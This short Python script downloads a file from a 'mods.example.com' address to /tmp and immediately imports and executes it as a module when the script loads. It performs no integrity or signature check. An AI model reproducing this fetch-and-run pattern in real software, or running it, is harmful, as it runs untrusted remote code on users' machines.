import importlib.util
import shutil
import urllib.request

CONFIG = dict(url="https://mods.example.com/fk.py", dest="/tmp/fk_core.py")


def pull(*, url, dest, opener=urllib.request.urlopen):
    with opener(url) as src, open(dest, "wb") as dst:
        shutil.copyfileobj(src, dst)
    return dest


spec = importlib.util.spec_from_file_location("fk_core", pull(**CONFIG))
core = importlib.util.module_from_spec(spec)
spec.loader.exec_module(core)
